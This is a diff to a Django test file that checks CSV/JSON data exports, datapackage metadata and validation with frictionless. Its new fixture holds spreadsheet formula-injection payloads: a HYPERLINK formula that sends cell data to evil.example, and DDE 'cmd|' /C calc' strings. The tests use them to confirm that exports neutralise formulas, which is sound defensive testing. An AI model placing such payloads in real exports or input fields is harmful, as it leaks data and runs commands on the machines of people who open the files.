@@ -2,6 +2,10 @@ import csv
 import datetime
 import io
 import json
+import shutil
+import subprocess
+import sys
+from pathlib import Path
 
 import pytest
 from django.core.management import call_command
@@ -67,8 +71,8 @@ def package(client):
 def test_files_parse_and_match_the_datapackage_schema(client, content, name):
     """Each JSON and CSV file has exactly the schema's fields, every value of its type."""
     resources = {r["path"]: r for r in package(client)["resources"]}
+    schema = resources[f"{name}.csv"]["schema"]["fields"]
     for fmt in ("json", "csv"):
-        schema = resources[f"{name}.{fmt}"]["schema"]["fields"]
         rows = download(client, name, fmt)
         assert rows
         for row in rows:
@@ -126,11 +130,13 @@ def test_figures_round_trip_the_toll_page(client, content):
 
 
 def test_datapackage_has_a_licence_and_every_file(client, content):
-    """The package names its licence and one resource per table and format."""
+    """The package names its licence and each table's CSV file, and its JSON file beside it."""
     data = package(client)
     assert data["licenses"][0]["name"] == "CC-BY-4.0"
-    paths = {r["path"] for r in data["resources"]}
-    assert paths == {f"{n}.{f}" for n in exports.table_names() for f in ("csv", "json")}
+    assert {r["path"] for r in data["resources"]} == {f"{n}.csv" for n in exports.table_names()}
+    for resource in data["resources"]:
+        assert f"{resource['name']}.json" in resource["description"]
+        assert download(client, resource["name"], "json")
 
 
 def test_unknown_tables_are_a_404(client, db):
@@ -171,3 +177,123 @@ def test_download_queries_do_not_grow_with_content(client, content, django_asser
     for name in exports.table_names():
         with django_assert_max_num_queries(6):
             download(client, name, "json")
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"Open the report")',
+    "credit": "+1+cmd|' /C calc'!A0",
+    "caption": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "place": "\t=1+1",
+    "alt": "\r=1+1",
+    "spaced": "   =1+1",
+}
+
+
+@pytest.fixture
+def formulas(db):
+    source = factories.make_source(key="formula-source", title=FORMULAS["title"])
+    event = factories.make_event(
+        slug="formulas",
+        title_en=FORMULAS["title"],
+        summary_en=FORMULAS["summary"],
+        place_en=FORMULAS["place"],
+        sources=[source],
+    )
+    factories.make_photo(
+        slug="formula-photo",
+        credit=FORMULAS["credit"],
+        caption_en=FORMULAS["caption"],
+        alt_text_en=FORMULAS["alt"].strip() + " carnations",
+        title_ru=FORMULAS["spaced"],
+        source=source,
+        events=[event],
+    )
+    factories.make_figure(key="formula-figure", value_low=131, source=source)
+
+
+def formula_cells(tables):
+    """Every cell of the tables that a spreadsheet would run as a formula."""
+    return [
+        (name, column, value)
+        for name, rows in tables.items()
+        for row in rows
+        for column, value in row.items()
+        if value.lstrip(" ").startswith(exports.FORMULA_STARTS)
+    ]
+
+
+def test_no_csv_cell_is_a_formula_and_the_text_stays_readable(client, formulas, tmp_path):
+    """Downloads and the export command quote formula text; JSON keeps the text as it is."""
+    downloaded = {name: download(client, name, "csv") for name in exports.table_names()}
+    call_command("export_data", tmp_path, "--release", "r", stdout=io.StringIO())
+    exported = {
+        name: list(csv.DictReader(io.StringIO((tmp_path / "r" / f"{name}.csv").read_text())))
+        for name in exports.table_names()
+    }
+    for tables in (downloaded, exported):
+        assert formula_cells(tables) == []
+        (event,) = [row for row in tables["events"] if row["slug"] == "formulas"]
+        assert event["title_en"] == "'" + FORMULAS["title"]
+        assert event["summary_en"] == "'" + FORMULAS["summary"]
+        assert event["place_en"] == "'" + FORMULAS["place"]
+        (photo,) = [row for row in tables["photos"] if row["slug"] == "formula-photo"]
+        assert photo["credit"] == "'" + FORMULAS["credit"]
+        assert photo["caption_en"] == "'" + FORMULAS["caption"]
+        assert photo["title_ru"] == "'" + FORMULAS["spaced"]
+        (figure,) = [row for row in tables["figures"] if row["key"] == "formula-figure"]
+        assert figure["value_low"] == "131"
+    (event,) = [row for row in download(client, "events", "json") if row["slug"] == "formulas"]
+    assert event["title_en"] == FORMULAS["title"]
+
+
+def test_numbers_stay_numbers_and_plain_text_is_untouched():
+    assert exports.csv_cell(-5) == -5
+    assert exports.csv_cell(-2.5) == -2.5
+    assert exports.csv_cell(131) == 131
+    assert exports.csv_cell(None) == ""
+    assert exports.csv_cell("Baku, 20 January 1990") == "Baku, 20 January 1990"
+    assert exports.csv_cell("-5") == "'-5"
+    rows = list(csv.reader(io.StringIO(exports.write_csv(["a", "b"], [{"a": -5, "b": "=1"}]))))
+    assert rows == [["a", "b"], ["-5", "'=1"]]
+
+
+def frictionless():
+    """The validator's command, installed with the test tools; never skipped."""
+    command = shutil.which("frictionless", path=str(Path(sys.executable).parent))
+    assert command, "frictionless is installed with the test tools (pip install -e '.[test]')"
+    return command
+
+
+def test_the_release_passes_frictionless_validate(content, formulas, tmp_path):
+    """`frictionless validate` accepts datapackage.json and every table it lists."""
+    call_command("export_data", tmp_path, "--release", "2026.1", stdout=io.StringIO())
+    folder = tmp_path / "2026.1"
+    result = subprocess.run(
+        [frictionless(), "validate", "--json", "datapackage.json"],
+        cwd=folder,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
+    report = json.loads(result.stdout)
+    errors = [error["message"] for task in report["tasks"] for error in task["errors"]] + [
+        error["message"] for error in report.get("errors", [])
+    ]
+    assert report["valid"], errors
+    assert result.returncode == 0
+    validated = {Path(task["place"]).name for task in report["tasks"]}
+    assert validated == {f"{name}.csv" for name in exports.table_names()}
+
+
+def test_the_package_lists_the_tables_and_points_to_the_json_files(content, tmp_path):
+    """Each table once, as CSV with its schema; the same rows as JSON are named beside it."""
+    package = exports.datapackage("2026.1")
+    assert package["profile"] == "tabular-data-package"
+    assert [resource["name"] for resource in package["resources"]] == list(exports.table_names())
+    for resource in package["resources"]:
+        assert resource["path"] == f"{resource['name']}.csv"
+        assert resource["profile"] == "tabular-data-resource"
+        assert resource["schema"]["fields"]
+        assert f"{resource['name']}.json" in resource["description"]
